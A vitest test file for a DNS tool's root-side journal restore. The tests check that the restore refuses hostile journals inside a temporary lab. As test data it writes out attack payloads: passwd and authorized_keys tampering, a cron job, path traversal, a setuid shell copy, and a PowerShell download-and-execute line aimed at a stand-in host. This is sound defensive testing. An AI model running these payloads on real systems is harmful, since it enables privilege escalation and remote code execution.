/**
 * Root's side of the journal against malformed and hostile journals, on a
 * temp host root that holds the files an attacker wants (etc/passwd,
 * etc/shadow, root/.ssh/authorized_keys, etc/cron.d) next to the ones
 * dotstub manages, and a directory outside the root.
 *
 * For every hostile journal, each way root acts on one (restore, the stale
 * replay at start, `dotstub system-dns restore` as the units run it, and the
 * root watchdog's rewrite watch) is run, and:
 * - the tree (the host root, the outside directory and the state dir with
 *   the journal itself) is byte for byte, mode for mode, as it was;
 * - no program was run;
 * - the command says in words that it refused the journal, and why.
 * Random mutations of a real journal follow: whatever they turn into,
 * nothing outside the managed files changes and only the reloads run.
 * And a journal dotstub wrote still restores byte for byte, for each backend.
 */
import { createHash } from 'node:crypto';
import { spawnSync } from 'node:child_process';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { afterEach, describe, expect, test } from 'vitest';
import type { Backend } from './backend.js';
import { runSystemDnsCli } from './cli.js';
import { fileState } from './file-state.js';
import { systemHost, type SystemHost } from './host.js';
import { Journal, type JournalData } from './journal.js';
import { NetworkManagerBackend, NM_CONF, NM_CONF_TEXT } from './network-manager-backend.js';
import { RESOLV_CONF, ResolvConfBackend } from './resolv-conf-backend.js';
import { DROP_IN, dropInText, ResolvedBackend } from './resolved-backend.js';
import { followRewrites } from './rewrite-note.js';
import { enable, replayStaleJournal, restore, type TakeoverContext } from './takeover.js';
// The fuzzers' seeded generator (mulberry32): the same mutations on every run; the seed is in the test name.
import { prng as rng } from '../../scripts/fuzz-messages.js';

const ORIGINAL = 'nameserver 192.0.2.1\nnameserver 2001:db8::1\nsearch corp.example\noptions edns0\n';
const PASSWD = 'root:x:0:0:root:/root:/bin/bash\n';
const SHADOW = 'root:$6$secretsalt$secrethash:19000:0:99999:7:::\n';
const KEYS = 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOwnerKey owner@host\n';
const EVIL_KEY = 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIAttackerKey attacker\n';

function deadPid(): number {
  return spawnSync('true').pid as number;
}

const dirs: string[] = [];
const startCwd = process.cwd();
afterEach(() => {
  process.chdir(startCwd);
  for (const d of dirs.splice(0)) fs.rmSync(d, { recursive: true, force: true });
});

interface Lab {
  readonly base: string;
  readonly root: string;
  readonly outside: string;
  readonly state: string;
  readonly host: SystemHost;
  /** Every program root was asked to run. */
  readonly runs: string[][];
  readonly ctx: TakeoverContext;
}

/** A machine: the managed files' directories, the files an attacker wants, and a directory outside the root. */
function lab(resolv: 'file' | 'symlink' = 'file'): Lab {
  const base = fs.mkdtempSync(path.join(os.tmpdir(), 'dotstub-journal-trust-'));
  dirs.push(base);
  const root = path.join(base, 'root');
  const file = (rel: string, text: string, mode = 0o644): void => {
    fs.mkdirSync(path.dirname(path.join(root, rel)), { recursive: true });
    fs.writeFileSync(path.join(root, rel), text, { mode });
    fs.chmodSync(path.join(root, rel), mode);
  };
  file('etc/passwd', PASSWD);
  file('etc/shadow', SHADOW, 0o600);
  file('etc/cron.d/.placeholder', '');
  file('root/.ssh/authorized_keys', KEYS, 0o600);
  file('run/systemd/resolve/stub-resolv.conf', 'nameserver 127.0.0.53\noptions edns0 trust-ad\nsearch lan\n');
  fs.mkdirSync(path.join(root, 'etc/NetworkManager/conf.d'), { recursive: true });
  if (resolv === 'file') file('etc/resolv.conf', ORIGINAL);
  else fs.symlinkSync('../run/systemd/resolve/stub-resolv.conf', path.join(root, 'etc/resolv.conf'));
  const outside = path.join(base, 'outside');
  fs.mkdirSync(outside);
  fs.writeFileSync(path.join(outside, 'secret'), 'outside the host root\n');
  const state = path.join(base, 'state');
  fs.mkdirSync(state, { mode: 0o700 });
  // A relative path in a journal lands in the lab (and in its snapshot), never in the checkout.
  process.chdir(base);
  const runs: string[][] = [];
  // Every program "succeeds" and is recorded: resolved and NetworkManager reloads, and whatever a journal asks for.
  const host: SystemHost = {
    ...systemHost(root),
    run: async (argv) => {
      runs.push([...argv]);
      return { code: 0, stdout: '', stderr: '', missing: false };
    },
  };
  return { base, root, outside, state, host, runs, ctx: { host, stateDir: state } };
}

type Entry = { type: 'dir' | 'file' | 'symlink' | 'other'; mode: number; digest: string };

/** Everything under `dir`: type, mode and content (a symlink's target), by relative path. */
function snapshot(dir: string): Map<string, Entry> {
  const out = new Map<string, Entry>();
  const walk = (p: string): void => {
    const st = fs.lstatSync(p);
    const rel = path.relative(dir, p) || '.';
    if (st.isSymbolicLink()) out.set(rel, { type: 'symlink', mode: 0, digest: fs.readlinkSync(p) });
    else if (st.isDirectory()) {
      out.set(rel, { type: 'dir', mode: st.mode & 0o7777, digest: '' });
      for (const name of fs.readdirSync(p).sort()) walk(path.join(p, name));
    } else if (st.isFile()) out.set(rel, { type: 'file', mode: st.mode & 0o7777, digest: createHash('sha256').update(fs.readFileSync(p)).digest('hex') });
    else out.set(rel, { type: 'other', mode: st.mode, digest: '' });
  };
  walk(dir);
  return out;
}

/** What differs between two snapshots, in words (empty: the same). */
function changes(a: Map<string, Entry>, b: Map<string, Entry>, ignore: (rel: string) => boolean = () => false): string[] {
  const out: string[] = [];
  for (const rel of new Set([...a.keys(), ...b.keys()])) {
    if (ignore(rel)) continue;
    const x = a.get(rel);
    const y = b.get(rel);
    if (!x) out.push(`${rel} appeared`);
    else if (!y) out.push(`${rel} vanished`);
    else if (x.type !== y.type || x.mode !== y.mode || x.digest !== y.digest) out.push(`${rel} changed (${x.type} ${x.mode.toString(8)} → ${y.type} ${y.mode.toString(8)})`);
  }
  return out;
}

/** The managed files, relative to the lab's base (what a legitimate restore may change). */
const MANAGED_REL = new Set([RESOLV_CONF, DROP_IN, NM_CONF].map((p) => path.join('root', p)));
const managedOrState = (rel: string): boolean =>
  MANAGED_REL.has(rel) || rel === 'state' || rel.startsWith(`state${path.sep}`) || rel === path.join('root', path.dirname(DROP_IN)) || rel === path.join('root', path.dirname(path.dirname(DROP_IN)));

/** A real journal: what enable with the resolved backend on port 53 writes (drop-in, resolv.conf, reload), its owner gone. */
async function realJournal(): Promise<{ j: JournalData; root: string }> {
  const l = lab();
  await enable(l.ctx, { chosen: new ResolvedBackend(l.host), why: 'test', all: [] }, { port: 53 }, process.pid);
  const j = new Journal(l.state).read() as JournalData;
  return { j: { ...j, pid: deadPid() }, root: l.root };
}

/** The real journal with its paths moved into another lab's root. */
function relocated(real: { j: JournalData; root: string }, l: Lab): JournalData {
  return JSON.parse(JSON.stringify(real.j).replaceAll(real.root, l.root)) as JournalData;
}

/** Every way root acts on a journal; the words it printed. */
async function rootActsOn(l: Lab): Promise<{ words: string[]; results: unknown[] }> {
  const words: string[] = [];
  const results: unknown[] = [];
  results.push(await restore(l.ctx).catch((e: unknown) => e));
  results.push(await replayStaleJournal(l.ctx).catch((e: unknown) => e));
  const code = await runSystemDnsCli(['restore', '--root', l.root, '--state-dir', l.state, '--check-name', ''], {
    configDir: l.state,
    out: (s) => words.push(s),
    err: (s) => words.push(s),
  });
  results.push(code);
  // The root watchdog's rewrite watch: it writes what the journal says dotstub wrote when the files differ.
  const watch = followRewrites(l.host, l.state, (s) => words.push(s), (s) => words.push(s), { pollMs: 20, stepMs: 1 });
  try {
    watch.start();
  } catch (e) {
    words.push((e as Error).message);
  }
  await new Promise((r) => setTimeout(r, 150));
  watch.stop();
  return { words, results };
}

type Hostile = { name: string; text: (j: JournalData, l: Lab) => string; prepare?: (l: Lab) => void };

const json = (v: unknown): string => JSON.stringify(v, null, 2);
const b64 = (s: string): string => Buffer.from(s).toString('base64');
function withStep(j: JournalData, i: number, patch: Record<string, unknown>): JournalData {
  return { ...j, steps: j.steps.map((e, k) => (k === i ? { ...e, step: { ...e.step, ...patch } as never } : e)) };
}
/** Index of the journal's step for a managed file. */
const stepFor = (j: JournalData, sys: string): number => j.steps.findIndex((e) => e.step.kind === 'file' && e.step.path.endsWith(sys));

const HOSTILE: Hostile[] = [
  { name: 'a step that writes etc/passwd', text: (j, l) => json(withStep(j, stepFor(j, RESOLV_CONF), { path: path.join(l.root, 'etc/passwd'), before: { type: 'file', base64: b64('root::0:0::/root:/bin/sh\n'), mode: 0o644 } })) },
  { name: 'a step that adds a key to root/.ssh/authorized_keys', text: (j, l) => json(withStep(j, stepFor(j, RESOLV_CONF), { path: path.join(l.root, 'root/.ssh/authorized_keys'), before: { type: 'file', base64: b64(KEYS + EVIL_KEY), mode: 0o600 } })) },
  { name: 'a step that drops a cron job', text: (j, l) => json(withStep(j, stepFor(j, DROP_IN), { path: path.join(l.root, 'etc/cron.d/dotstub'), before: { type: 'file', base64: b64('* * * * * root touch /pwned\n'), mode: 0o644 } })) },
  { name: 'a ../ path that climbs out of the host root', text: (j, l) => json(withStep(j, stepFor(j, RESOLV_CONF), { path: `${l.root}/etc/../../outside/secret`, before: { type: 'file', base64: b64('overwritten\n'), mode: 0o644 } })) },
  { name: 'a ../ path that lands on a managed file', text: (j, l) => json(withStep(j, stepFor(j, RESOLV_CONF), { path: `${l.root}/etc/cron.d/../resolv.conf`, before: { type: 'file', base64: b64('nameserver 203.0.113.66\n'), mode: 0o644 } })) },
  // Relative to the working directory, which is the lab's (lab()).
  { name: 'a relative path', text: (j) => json(withStep(j, stepFor(j, RESOLV_CONF), { path: 'root/etc/resolv.conf', before: { type: 'file', base64: b64('nameserver 203.0.113.66\n'), mode: 0o644 } })) },
  { name: 'the original removed from where it was read (absent, with its directory)', text: (j) => json(withStep(j, stepFor(j, RESOLV_CONF), { before: { type: 'absent', noDir: true } })) },
  { name: 'resolv.conf put back as a symlink into the attacker\'s directory', text: (j, l) => json(withStep(j, stepFor(j, RESOLV_CONF), { before: { type: 'symlink', target: path.join(l.outside, 'resolv.conf') } })) },
  { name: 'resolv.conf put back as a symlink to /etc/shadow', text: (j) => json(withStep(j, stepFor(j, RESOLV_CONF), { before: { type: 'symlink', target: '/etc/shadow' } })) },
  { name: 'the original put back setuid', text: (j) => json(withStep(j, stepFor(j, RESOLV_CONF), { before: { type: 'file', base64: b64(ORIGINAL), mode: 0o4755 } })) },
  { name: 'the original put back world-writable', text: (j) => json(withStep(j, stepFor(j, RESOLV_CONF), { before: { type: 'file', base64: b64(ORIGINAL), mode: 0o666 } })) },
  { name: 'the original as 2 MiB', text: (j) => json(withStep(j, stepFor(j, RESOLV_CONF), { before: { type: 'file', base64: b64('#'.repeat(2 * 1024 * 1024)), mode: 0o644 } })) },
  { name: 'the original with NUL bytes', text: (j) => json(withStep(j, stepFor(j, RESOLV_CONF), { before: { type: 'file', base64: b64('nameserver 192.0.2.1\n\0\0\0ELF'), mode: 0o644 } })) },
  { name: 'base64 that is not base64', text: (j) => json(withStep(j, stepFor(j, RESOLV_CONF), { before: { type: 'file', base64: '!!!! not base64 ####', mode: 0o644 } })) },
  { name: "the drop-in's original is someone else's resolved settings", text: (j) => json(withStep(j, stepFor(j, DROP_IN), { before: { type: 'file', base64: b64('[Resolve]\nDNS=203.0.113.66\nDomains=~.\n'), mode: 0o644 } })) },
  { name: '"ours" drop-in naming a resolver on the internet (the rewrite watch writes it)', text: (j) => json(withStep(j, stepFor(j, DROP_IN), { after: fileState('[Resolve]\nDNS=203.0.113.66\nDomains=~.\n') })) },
  { name: '"ours" resolv.conf naming a non-loopback nameserver', text: (j) => json(withStep(j, stepFor(j, RESOLV_CONF), { after: fileState('# Managed by dotstub (private DNS).\nnameserver 127.0.0.1\nnameserver 203.0.113.66\n') })) },
  { name: '"ours" NetworkManager conf that is not ours', text: (j, l) => json({ ...j, backend: 'networkmanager', steps: [...j.steps.filter((e) => e.step.kind === 'file' && e.step.path.endsWith(RESOLV_CONF)), { step: { kind: 'file', path: path.join(l.root, NM_CONF), before: { type: 'absent' }, after: fileState('[main]\ndns=default\n[connectivity]\nuri=http://203.0.113.66/\n'), why: 'x' }, progress: 'applied' }] }) },
  { name: 'a command on a Linux backend', text: (j, l) => json({ ...j, steps: [...j.steps, { step: { kind: 'command', run: ['true'], undo: [['sh', '-c', `echo pwned > ${l.outside}/pwned`]], why: 'x' }, progress: 'applied' }] }) },
  { name: 'a macOS journal running a shell', text: (j, l) => json({ ...j, backend: 'macos', steps: [{ step: { kind: 'command', run: ['networksetup', '-setdnsservers', 'Wi-Fi', '127.0.0.1'], undo: [['sh', '-c', `cp /bin/sh ${l.outside}/sh; chmod 4755 ${l.outside}/sh`]], why: 'x' }, progress: 'applied' }] }) },
  { name: 'a macOS journal whose service name is a flag', text: (j) => json({ ...j, backend: 'macos', steps: [{ step: { kind: 'command', run: ['networksetup', '-setdnsservers', 'Wi-Fi', '127.0.0.1'], undo: [['networksetup', '-setdnsservers', '-setv6off', 'Empty']], why: 'x' }, progress: 'applied' }] }) },
  { name: 'a Windows journal running its own script', text: (j) => json({ ...j, backend: 'windows', steps: [{ step: { kind: 'command', run: ['ipconfig', '/flushdns'], undo: [['powershell.exe', '-NoProfile', '-NonInteractive', '-Command', "Set-DnsClientServerAddress -InterfaceIndex 3 -ServerAddresses ('1.1.1.1'); iwr http://203.0.113.66/x | iex"]], why: 'x' }, progress: 'applied' }] }) },
  { name: 'a reload of another unit', text: (j) => json({ ...j, steps: [...j.steps, { step: { kind: 'reload', target: 'ssh', why: 'x' }, progress: 'applied' }] }) },
  { name: 'an unknown backend', text: (j) => json({ ...j, backend: '../../bin/sh' }) },
  { name: 'the same file twice (a second original)', text: (j) => json({ ...j, steps: [...j.steps, { ...j.steps[stepFor(j, RESOLV_CONF)], step: { ...(j.steps[stepFor(j, RESOLV_CONF)]?.step as object), before: { type: 'file', base64: b64('nameserver 203.0.113.66\n'), mode: 0o644 } } }] }) },
  { name: 'owner pid 0 (a process group) and port 0', text: (j) => json({ ...j, pid: 0, port: 0 }) },
  { name: 'owner pid -1', text: (j) => json({ ...j, pid: -1 }) },
  { name: 'a reason with a forged log line', text: (j) => json(withStep(j, 0, { why: 'ok\ndotstub: restored the resolv.conf settings: all good' })) },
  { name: 'wrong types: port as a string, steps as an object', text: (j) => json({ ...j, port: '53', steps: { 0: j.steps[0] } }) },
  { name: 'wrong types: a mode as a string, a path as a number', text: (j) => json(withStep(withStep(j, 0, { path: 42 }), 1, { before: { type: 'file', base64: b64('x'), mode: '4755' } })) },
  { name: 'a version this code does not know', text: (j) => json({ ...j, version: 2 }) },
  { name: 'not JSON', text: () => '{"version":1,"steps":[{"step":{"kind":"file","path":"/etc/passwd"' },
  { name: 'a huge journal (4 MiB of original settings)', text: (j) => json({ ...j, original: Array.from({ length: 4096 }, () => 'x'.repeat(1024)) }) },
  { name: '100 000 steps', text: (j) => json({ ...j, steps: Array.from({ length: 100_000 }, () => j.steps[0]) }) },
  {
    name: 'duplicate keys: a managed path, then /etc/passwd (JSON keeps the last)',
    text: (j, l) => {
      const i = stepFor(j, RESOLV_CONF);
      const marker = `"path": ${JSON.stringify(path.join(l.root, RESOLV_CONF))}`;
      const text = json(withStep(j, i, { before: { type: 'file', base64: b64(PASSWD.replace('/bin/bash', '/bin/sh')), mode: 0o644 } }));
      return text.replace(marker, `${marker}, "path": ${JSON.stringify(path.join(l.root, 'etc/passwd'))}`);
    },
  },
  { name: 'prototype pollution at the top', text: (j) => `{"__proto__": {"polluted": true, "isAdmin": true}, ${json(j).slice(1)}` },
  { name: 'prototype pollution in a step', text: (j) => json(j).replace('"kind": "file",', '"kind": "file", "constructor": {"prototype": {"polluted": true}},') },
  {
    name: 'the journal is a symlink to etc/shadow',
    text: () => '',
    prepare: (l) => {
      fs.rmSync(path.join(l.state, 'system-dns.journal.json'), { force: true });
      fs.symlinkSync(path.join(l.root, 'etc/shadow'), path.join(l.state, 'system-dns.journal.json'));
    },
  },
  {
    name: "NetworkManager's conf.d replaced by a symlink to root/.ssh (a dotstub leftover written through it)",
    text: (j, l) => json({ ...j, backend: 'networkmanager', steps: [{ step: { kind: 'file', path: path.join(l.root, NM_CONF), before: fileState(NM_CONF_TEXT), after: fileState(NM_CONF_TEXT), why: 'x' }, progress: 'applied' }] }),
    prepare: (l) => {
      fs.rmSync(path.join(l.root, 'etc/NetworkManager/conf.d'), { recursive: true });
      fs.symlinkSync('../../root/.ssh', path.join(l.root, 'etc/NetworkManager/conf.d'));
    },
  },
];

describe('root refuses a hostile journal and changes nothing', () => {
  test('control: the same real journal, moved into a lab and not changed, is accepted and restored', async () => {
    const real = await realJournal();
    const l = lab();
    fs.writeFileSync(path.join(l.state, 'system-dns.journal.json'), JSON.stringify(relocated(real, l)));
    expect(await restore(l.ctx)).toMatchObject({ restored: true, backend: 'systemd-resolved' });
    expect(l.runs.map((a) => a.join(' '))).toContain('systemctl --no-block try-restart systemd-resolved.service');
    expect(fs.readFileSync(path.join(l.root, RESOLV_CONF), 'utf8')).toBe(ORIGINAL);
  });

  test.each(HOSTILE.map((h) => [h.name, h] as const))('%s', async (_name, h) => {
    const real = await realJournal();
    const l = lab();
    const j = relocated(real, l);
    fs.writeFileSync(path.join(l.state, 'system-dns.journal.json'), h.text(j, l), { mode: 0o644 });
    h.prepare?.(l);
    const before = snapshot(l.base);

    const { words, results } = await rootActsOn(l);

    expect(changes(before, snapshot(l.base)), 'what changed').toEqual([]);
    expect(l.runs, 'programs run').toEqual([]);
    // Refused, in words: the library calls throw, the command fails and says so.
    expect(results[2]).toBe(1);
    const said = words.join('\n');
    expect(said).toMatch(/refused the journal|not a dotstub journal|not valid JSON|is a symlink|left as it is/);
    expect(said).not.toContain('secrethash');
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
  });
});


describe('random mutations of a real journal', () => {
  // Another seed: DOTSTUB_JOURNAL_FUZZ_SEED=N.
  const SEED = Number(process.env.DOTSTUB_JOURNAL_FUZZ_SEED ?? 4301);
  test(`seed ${SEED}: 300 mutations; nothing outside the managed files changes, nothing but the reloads runs`, async () => {
    const real = await realJournal();
    const next = rng(SEED);
    const pick = <T,>(xs: readonly T[]): T => xs[Math.floor(next() * xs.length)] as T;
    const reloads = /^(systemctl --no-block try-(reload-or-)?restart (systemd-resolved|NetworkManager)\.service|resolvectl flush-caches|nmcli general reload)$/;
    const failures: string[] = [];
    for (let n = 0; n < 300; n++) {
      const l = lab();
      const pool: unknown[] = [
        // Every path in the lab: a bug (or today's code, which wrote any path) must not reach this machine's files.
        null, 0, -1, 1e308, '', 'x'.repeat(70_000), 'outside/secret', path.join(l.root, 'etc/passwd'), path.join(l.root, 'root/.ssh/authorized_keys'),
        path.join(l.outside, 'secret'), `${l.root}/etc/../etc/resolv.conf`, path.join(l.root, 'etc/shadow'), ['sh', '-c', 'id'], [['sh', '-c', 'id']], { type: 'symlink', target: l.outside },
        { type: 'file', base64: b64(EVIL_KEY), mode: 0o6777 }, { type: 'absent', noDir: true }, { __proto__: { polluted: 1 } }, 'systemd-resolved', 'NetworkManager', 'command', 'file', 'reload', 'applied', true, [],
        b64('# Managed by dotstub (private DNS).\nnameserver 198.51.100.7\n'), 0o4755, 53, 'networkmanager', 'macos',
      ];
      const j = relocated(real, l) as unknown as Record<string, unknown>;
      // Half the time at what root acts on (a step's path, states, kind, commands), else anywhere:
      // walk to a random node and replace, delete or duplicate it.
      for (let k = 1 + Math.floor(next() * 3); k > 0; k--) {
        const steps = j.steps as unknown[] | undefined;
        if (Array.isArray(steps) && steps.length > 0 && next() < 0.5) {
          const step = (pick(steps) as { step?: unknown } | null)?.step;
          if (step === null || typeof step !== 'object') continue;
          (step as Record<string, unknown>)[pick(['path', 'path', 'before', 'after', 'kind', 'target', 'run', 'undo', 'why'])] = pick(pool);
          continue;
        }
        let node: Record<string, unknown> = j;
        for (;;) {
          const keys = Object.keys(node);
          if (keys.length === 0) break;
          const key = pick(keys);
          const child = node[key];
          if (child !== null && typeof child === 'object' && next() < 0.6) {
            node = child as Record<string, unknown>;
            continue;
          }
          const r = next();
          if (r < 0.7) node[key] = pick(pool);
          else if (r < 0.85) delete node[key];
          else if (Array.isArray(node)) node.push(structuredClone(child));
          else node[key] = structuredClone(child);
          break;
        }
      }
      fs.writeFileSync(path.join(l.state, 'system-dns.journal.json'), JSON.stringify(j));
      const before = snapshot(l.base);
      await restore(l.ctx).catch(() => undefined);
      await replayStaleJournal(l.ctx).catch(() => undefined);
      const outsideManaged = changes(before, snapshot(l.base), managedOrState);
      const odd = l.runs.map((a) => a.join(' ')).filter((a) => !reloads.test(a));
      if (outsideManaged.length > 0 || odd.length > 0) failures.push(`mutation ${n}: ${JSON.stringify(j).slice(0, 400)} → changed ${outsideManaged.join(', ') || 'nothing'}; ran ${odd.join(' | ') || 'nothing'}`);
      process.chdir(startCwd);
      fs.rmSync(l.base, { recursive: true, force: true });
      dirs.splice(dirs.indexOf(l.base), 1);
    }
    expect(failures).toEqual([]);
  }, 60_000);
});

describe('a journal dotstub wrote still restores byte for byte', () => {
  const backends: [string, 'file' | 'symlink', (h: SystemHost) => Backend][] = [
    ['resolv.conf', 'file', (h) => new ResolvConfBackend(h)],
    ['systemd-resolved (resolv.conf a symlink to its stub)', 'symlink', (h) => new ResolvedBackend(h)],
    ['networkmanager', 'file', (h) => new NetworkManagerBackend(h)],
  ];
  test.each(backends)('%s', async (_name, resolv, make) => {
    const l = lab(resolv);
    const before = snapshot(l.root);
    await enable(l.ctx, { chosen: make(l.host), why: 'test', all: [] }, { port: 53 }, process.pid);
    expect(changes(before, snapshot(l.root)).length).toBeGreaterThan(0);
    // As after a crash: the owner gone, root's restore and the stale replay at start.
    const j = new Journal(l.state).read() as JournalData;
    new Journal(l.state).write({ ...j, pid: deadPid() });
    const replayed = await replayStaleJournal(l.ctx);
    expect(replayed?.restored).toBe(true);
    expect(changes(before, snapshot(l.root))).toEqual([]);
    expect(new Journal(l.state).read()).toBeNull();
    // And the drop-in's port is the journal's: a resolved journal for another port restores too.
    expect(dropInText(53)).toContain('DNS=127.0.0.1:53');
  });
});
